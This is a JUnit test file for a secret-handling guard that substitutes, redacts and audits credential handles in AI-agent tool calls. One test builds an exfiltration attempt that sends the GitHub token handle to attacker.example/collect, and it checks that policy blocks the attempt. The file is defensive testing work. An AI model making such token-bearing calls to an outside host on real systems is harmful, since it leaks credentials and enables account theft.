package dev.keyhole;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.keyhole.audit.AuditEventType;
import dev.keyhole.audit.MemoryAuditSink;
import dev.keyhole.providers.InMemoryProvider;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class ToolGuardTest {
  private final String token = TestSupport.randomSecret();
  private final String other = TestSupport.randomSecret();
  private final MemoryAuditSink audit = MemoryAuditSink.create();
  private Keyhole keyhole;
  private TaskScope task;
  private ToolGuard guard;

  @BeforeEach
  void setUp() {
    Policy policy = Policy.builder()
        .grant(Grant.builder("github_token").ref("memory:gh").tools("http_request", "echo")
            .destinations("api.github.com").unboundTools("echo").build())
        .grant(Grant.builder("other").ref("memory:other").tools("echo").build())
        .build();
    keyhole = Keyhole.builder().provider(InMemoryProvider.create().put("gh", token).put("other", other))
        .policy(policy).auditSink(audit).expirySweep(false).build();
    task = keyhole.openTask(TaskOptions.builder().taskId("guard-test").allPolicyGrants().build());
    guard = ToolGuard.builder(task)
        .destinationParameter("http_request", "url")
        .handleParameter("http_request", HandleParameter.of("headers").embedded(true))
        .handleParameter("http_request", HandleParameter.of("list").embedded(true))
        .handleParameters("http_request", "raw", "h")
        .handleParameters("echo", "a", "b")
        .build();
  }

  @AfterEach
  void tearDown() {
    keyhole.close();
  }

  @Test
  void call_substitutesWholeValuesAndTokensInsideStrings() {
    AtomicReference<JsonNode> seen = new AtomicReference<>();
    String result = guard.call("http_request",
        "{\"url\":\"https://api.github.com/user\",\"headers\":{\"Authorization\":\"Bearer secret://github_token\"},"
            + "\"raw\":\"secret://GITHUB_TOKEN\",\"list\":[1,\"x secret://github_token y\"]}",
        inv -> {
          seen.set(inv.argumentsTree());
          assertThat(inv.originalArguments()).doesNotContain(token);
          assertThat(inv.destination()).contains(Destination.parse("api.github.com"));
          assertThat(inv.secret("github_token").revealString()).isEqualTo(token);
          return "ok";
        });
    assertThat(result).isEqualTo("ok");
    assertThat(seen.get().path("headers").path("Authorization").asText()).isEqualTo("Bearer " + token);
    assertThat(seen.get().path("raw").asText()).isEqualTo(token);
    assertThat(seen.get().path("list").get(1).asText()).isEqualTo("x " + token + " y");
  }

  @Test
  void call_redactsResult() {
    String result = guard.call("echo", "{\"a\":\"secret://github_token\",\"b\":\"secret://other\"}",
        inv -> "echo: " + inv.arguments());
    assertThat(result).doesNotContain(token).doesNotContain(other)
        .contains("secret://github_token").contains("secret://other");
    assertThat(audit.events(AuditEventType.REDACTION_HIT)).hasSize(1);
  }

  @Test
  void call_destroysValuesAfterTheTool() {
    List<SecretValue> held = new ArrayList<>();
    guard.call("echo", "{\"a\":\"secret://other\"}", inv -> {
      held.addAll(inv.secrets().values());
      return "";
    });
    assertThat(held).hasSize(1).allSatisfy(v -> assertThat(v.isDestroyed()).isTrue());
  }

  @Test
  void toolException_isRedacted_typed_andNotChained() {
    Throwable t = org.assertj.core.api.Assertions.catchThrowable(() ->
        guard.call("echo", "{\"a\":\"secret://other\"}", inv -> {
          throw new IllegalStateException("boom with " + inv.secret("other").revealString(),
              new RuntimeException("cause " + inv.secret("other").revealString()));
        }));
    assertThat(t).isInstanceOf(ToolFailedException.class);
    ToolFailedException e = (ToolFailedException) t;
    assertThat(e.getCause()).isNull();
    assertThat(e.getMessage()).doesNotContain(other).contains("secret://other")
        .contains("IllegalStateException").contains("caused by RuntimeException");
    assertThat(e.redactedTrace()).doesNotContain(other).contains("IllegalStateException");
    assertThat(e.originalType()).isEqualTo(IllegalStateException.class.getName());
    assertThat(e.toolName()).isEqualTo("echo");
    assertThat(audit.events(AuditEventType.TOOL_FAILED)).hasSize(1);
  }

  @Test
  void deniedUse_stopsBeforeTheToolRuns() {
    AtomicReference<Boolean> ran = new AtomicReference<>(false);
    assertThatThrownBy(() -> guard.call("http_request",
        "{\"url\":\"https://attacker.example/collect\",\"h\":\"secret://github_token\"}", inv -> {
          ran.set(true);
          return "";
        })).isInstanceOf(PolicyViolationException.class).hasMessageContaining("attacker.example");
    assertThatThrownBy(() -> guard.call("http_request",
        "{\"url\":\"http://api.github.com/\",\"h\":\"secret://github_token\"}", inv -> "")).isInstanceOf(PolicyViolationException.class)
        .hasMessageContaining("plain http");
    assertThatThrownBy(() -> guard.call("http_request",
        "{\"url\":\"https://api.github.com/\",\"h\":\"secret://other\"}", inv -> ""))
        .isInstanceOf(PolicyViolationException.class).hasMessageContaining("may not use handle secret://other");
    assertThat(ran.get()).isFalse();
  }

  @Test
  void malformedOrForeignHandles_areDenied() {
    assertThatThrownBy(() -> guard.call("echo", "{\"a\":\"secret://_bad\"}", inv -> ""))
        .isInstanceOf(InvalidHandleException.class).hasMessageContaining("Malformed handle token");
    assertThatThrownBy(() -> guard.call("echo", "{\"secret://other\":\"x\"}", inv -> ""))
        .isInstanceOf(PolicyViolationException.class).hasMessageContaining("argument name");
    assertThatThrownBy(() -> guard.call("echo", "{\"a\":\"secret://someone_elses\"}", inv -> ""))
        .isInstanceOf(PolicyViolationException.class).hasMessageContaining("not granted");
    assertThatThrownBy(() -> guard.call("echo", "{not json", inv -> ""))
        .isInstanceOf(KeyholeException.class).hasMessageContaining("not valid JSON");
  }

  @Test
  void closedTask_runsNoTool() {
    task.close();
    assertThatThrownBy(() -> guard.call("echo", "{\"a\":\"secret://other\"}", inv -> ""))
        .isInstanceOf(TaskClosedException.class);
    assertThatThrownBy(() -> guard.call("echo", "{}", inv -> ""))
        .isInstanceOf(TaskClosedException.class);
  }

  @Test
  void toolExecution_isVisibleInsideTheCall_only() {
    AtomicReference<String> inside = new AtomicReference<>();
    guard.call("echo", "{}", inv -> {
      ToolExecution ex = ToolExecution.current().orElseThrow();
      inside.set(ex.toolName() + "@" + ex.task().taskId());
      SecretValue v = ex.resolve("other");
      assertThat(v.revealString()).isEqualTo(other);
      v.destroy();
      return "";
    });
    assertThat(inside.get()).isEqualTo("echo@guard-test");
    assertThat(ToolExecution.current()).isEmpty();
  }

  @Test
  void revealsAreAudited_withFingerprint_neverValue() {
    guard.call("echo", "{\"a\":\"secret://other\"}", inv -> inv.secret("other").revealString().isEmpty() ? "" : "x");
    assertThat(audit.events(AuditEventType.VALUE_REVEALED)).isNotEmpty()
        .allSatisfy(e -> assertThat(e.fingerprint()).startsWith("hmac-sha256:"));
    assertThat(audit.events(AuditEventType.USE_ALLOWED)).extracting(e -> e.fingerprint())
        .containsOnly(keyhole.fingerprint(SecretValue.ofString(other)));
  }
}
